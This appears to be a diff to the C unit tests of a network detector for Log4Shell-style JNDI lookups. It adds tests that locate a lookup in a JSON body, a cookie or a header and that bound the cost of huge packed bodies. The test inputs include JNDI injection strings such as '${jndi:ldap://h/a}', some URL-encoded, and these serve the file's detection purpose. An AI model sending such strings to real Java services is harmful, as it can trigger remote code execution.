@@ -21,6 +21,7 @@ static struct seen {
     unsigned n;
     uint32_t sid;
     char name[256], raw[256], decoded[256], location[64], techniques[256], payload[256];
+    char field[64], key[64], part[64];
 } seen;
 
 static void copy(char *to, size_t room, struct bytes from)
@@ -39,6 +40,9 @@ static void on_finding(void *arg, const struct finding *f)
     seen.sid = f->rule->sid;
     copy(seen.name, sizeof seen.name, attrs_get(f->attrs, ATTR_JNDI_NAME));
     copy(seen.location, sizeof seen.location, attrs_get(f->attrs, ATTR_JNDI_LOCATION));
+    copy(seen.field, sizeof seen.field, f->field->name);
+    copy(seen.key, sizeof seen.key, attrs_get(f->attrs, ATTR_JNDI_KEY));
+    copy(seen.part, sizeof seen.part, attrs_get(f->attrs, ATTR_JNDI_PART));
     copy(seen.raw, sizeof seen.raw, f->raw);
     copy(seen.payload, sizeof seen.payload, f->payload);
     copy(seen.decoded, sizeof seen.decoded, f->decoded);
@@ -85,7 +89,8 @@ static int new_flow(void **state)
     (void)state;
     flow = (struct flow){.id = 1, .proto = PROTO_TCP};
     chunk = (struct chunk){.flow = &flow};
-    field = (struct field){.kind = FIELD_HTTP_URI, .chunk = &chunk, .app_proto = "http", .first = true, .last = true};
+    field = (struct field){
+        .kind = FIELD_HTTP_URI, .chunk = &chunk, .app_proto = "http", .first = true, .last = true};
     seen = (struct seen){0};
     count_reset();
     return 0;
@@ -119,8 +124,8 @@ static void a_text_is_resolved(void **state)
     assert_string_equal(seen.techniques, "nested default-value form ");
 }
 
-/* Another version of a request belongs to no message that could be told: what the flow has shown already is no
- * news in it, and what it shows is said once, whatever comes after. */
+/* Another version of a request belongs to no message that could be told: what the flow has shown already is
+ * no news in it, and what it shows is said once, whatever comes after. */
 static void another_version_is_no_second_alert(void **state)
 {
     (void)state;
@@ -219,7 +224,7 @@ static void a_hostile_window_stays_cheap(void **state)
     (void)state;
     assert_non_null(body);
     for (size_t i = 0; i < len; i++)
-        body[i] = (uint8_t)"${a:}"[i % 5];
+        body[i] = (uint8_t) "${a:}"[i % 5];
     field.kind = FIELD_RAW;
     while (end < len) {
         size_t from = end > keep ? end - keep : 0;
@@ -252,7 +257,8 @@ static void give_window(struct bytes text, size_t step)
     field.message++;
 }
 
-/* An expression that is never closed keeps other readings waiting: until the end, or until the text would be gone. */
+/* An expression that is never closed keeps other readings waiting: until the end, or until the text would be
+ * gone. */
 static void a_reading_that_waits_gets_its_turn(void **state)
 {
     struct buf text = buf_within(200000);
@@ -270,6 +276,77 @@ static void a_reading_that_waits_gets_its_turn(void **state)
         assert_int_equal(seen.n, 1);
     }
     buf_drop(&text);
+}
+
+/* What was sent small and became large does not pay for being looked at all over. It is told of; and where
+ * nothing was looked at before, what comes late is found. */
+static void a_packed_text_pays_by_what_was_sent(void **state)
+{
+    struct buf text = buf_within(1000000);
+    uint64_t fields;
+
+    (void)state;
+    field.kind = FIELD_HTTP_REQUEST_BODY;
+    field.wire = 3000;
+    while (text.len < 900000)
+        buf_add_str(&text, "${a:b ${c");
+    give_window(buf_bytes(&text), 16384);
+    assert_int_equal(seen.n, 1);
+    assert_string_equal(seen.techniques, "budget ");
+    fields = counters[COUNT_DETECT_TRIGGERS];
+    field.wire = 0;
+    give_window(buf_bytes(&text), 16384);
+    assert_true(counters[COUNT_DETECT_TRIGGERS] - fields > 4 * fields);
+    seen = (struct seen){0};
+    field.wire = 3000;
+    buf_clear(&text);
+    while (text.len < 900000)
+        buf_add_str(&text, "nothing at all ");
+    buf_add_str(&text, "${jndi:ldap://h/a}");
+    give_window(buf_bytes(&text), 16384);
+    assert_int_equal(seen.n, 1);
+    assert_string_equal(seen.name, "ldap://h/a");
+    buf_drop(&text);
+}
+
+/* The place of a lookup is known however far in it is, and however the body came. */
+static void a_long_body_says_where(void **state)
+{
+    struct buf text = buf_within(200000);
+
+    (void)state;
+    field.kind = FIELD_HTTP_REQUEST_BODY;
+    field.coding = FIELD_JSON;
+    buf_add_str(&text, "{\"pad\":[0");
+    while (text.len < 100000)
+        buf_add_str(&text, ",{\"a b\":\"${x}\"}");
+    buf_add_str(&text, "],\"user\":{\"name\":\"${jndi:ldap://h/a}\"}}");
+    for (size_t step = 300; step < 100000; step = step * 3 + 1) {
+        seen = (struct seen){0};
+        give_window(buf_bytes(&text), step);
+        assert_int_equal(seen.n, 1);
+        assert_string_equal(seen.field, "$.user.name");
+        assert_string_equal(seen.part, "value");
+    }
+    buf_drop(&text);
+}
+
+static void a_cookie_is_a_key(void **state)
+{
+    (void)state;
+    field.kind = FIELD_HTTP_REQUEST_HEADER;
+    field.coding = FIELD_COOKIE;
+    field.name = BYTES_LIT("Cookie");
+    give(BYTES_LIT("a=1; sid=%24%7bjndi:ldap://h/a%7d"));
+    assert_int_equal(seen.n, 1);
+    assert_string_equal(seen.field, "Cookie");
+    assert_string_equal(seen.key, "sid");
+    assert_string_equal(seen.part, "value");
+    field.coding = FIELD_PLAIN;
+    field.name = BYTES_LIT("User-Agent");
+    field.message++;
+    give(BYTES_LIT("${jndi:ldap://h/a}"));
+    assert_string_equal(seen.field, "User-Agent");
 }
 
 static void give_headers(const struct field *head, field_fn *fn, void *arg)
@@ -302,8 +379,9 @@ static void a_lookup_over_two_headers_is_found(void **state)
 
 static void harmless_text_is_silent(void **state)
 {
-    static const char *const texts[] = {"`${a.b}/${c}`", "${spring.x:y}", "jndi:ldap://h/a", "$${jndi:ldap://h/a}", "",
-                                        "{{jndi:ldap://h/a}}", "${jndi"};
+    static const char *const texts[] = {
+        "`${a.b}/${c}`",       "${spring.x:y}", "jndi:ldap://h/a", "$${jndi:ldap://h/a}", "",
+        "{{jndi:ldap://h/a}}", "${jndi"};
 
     (void)state;
     for (size_t i = 0; i < sizeof texts / sizeof *texts; i++)
@@ -339,6 +417,9 @@ int main(void)
         IN_A_FLOW(a_window_is_resolved_wherever_it_is_split),
         IN_A_FLOW(a_hostile_window_stays_cheap),
         IN_A_FLOW(a_reading_that_waits_gets_its_turn),
+        IN_A_FLOW(a_packed_text_pays_by_what_was_sent),
+        IN_A_FLOW(a_long_body_says_where),
+        IN_A_FLOW(a_cookie_is_a_key),
         IN_A_FLOW(a_lookup_over_two_headers_is_found),
         IN_A_FLOW(harmless_text_is_silent),
         IN_A_FLOW(a_fact_is_asked_of_the_rules),
